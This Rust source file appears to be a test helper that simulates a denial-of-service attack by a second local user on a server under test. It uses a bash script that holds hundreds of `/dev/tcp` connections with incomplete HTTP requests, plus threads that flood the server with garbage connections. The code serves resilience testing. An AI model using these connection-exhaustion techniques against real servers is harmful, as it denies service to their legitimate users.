// SPDX-License-Identifier: Apache-2.0 OR MIT
//! Actions of the second user that try to deny a server to others.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use super::machine::{SECOND, second};

/// Number of connections that are opened first and then held.
const HELD: usize = 600;
/// Number of threads that keep opening new ones.
const THREADS: usize = 4;

/// Runs `work` while the second user holds many connections to a server that send nothing or an incomplete
/// request, and keeps opening new ones that close at once or send garbage.
pub fn under_attack<T>(address: &str, work: impl FnOnce() -> T) -> T {
    let (host, port) = address.rsplit_once(':').expect("an address");
    let script = format!(
        "trap '' PIPE; ulimit -n $(ulimit -Hn); for i in $(seq 1 {HELD}); do \
         exec {{fd}}<>/dev/tcp/{host}/{port} || continue; \
         [ $((i % 2)) = 0 ] && printf 'GET / HTTP/1.1\\r\\nX: ' >&$fd; done; echo; exec sleep 600"
    );
    let mut held = Command::new("bash")
        .args(["-c", &script])
        .uid(SECOND)
        .gid(SECOND)
        .current_dir("/")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("bash");
    let mut line = [0];
    held.stdout.as_mut().expect("its output").read_exact(&mut line).expect("all are open");
    let is_over = AtomicBool::new(false);
    let churn = || {
        // Partner: the store below; nothing else depends on it.
        while !is_over.load(Ordering::Relaxed) {
            match TcpStream::connect(address) {
                Ok(mut stream) => drop(stream.write_all(b"\0\xff nonsense\r\n\r\n")),
                Err(_) => thread::sleep(Duration::from_millis(1)),
            }
        }
    };
    let result = thread::scope(|scope| {
        for _ in 0..THREADS {
            scope.spawn(|| second(churn));
        }
        thread::sleep(Duration::from_millis(300));
        let result = work();
        is_over.store(true, Ordering::Relaxed);
        result
    });
    let _ = held.kill();
    let _ = held.wait();
    result
}
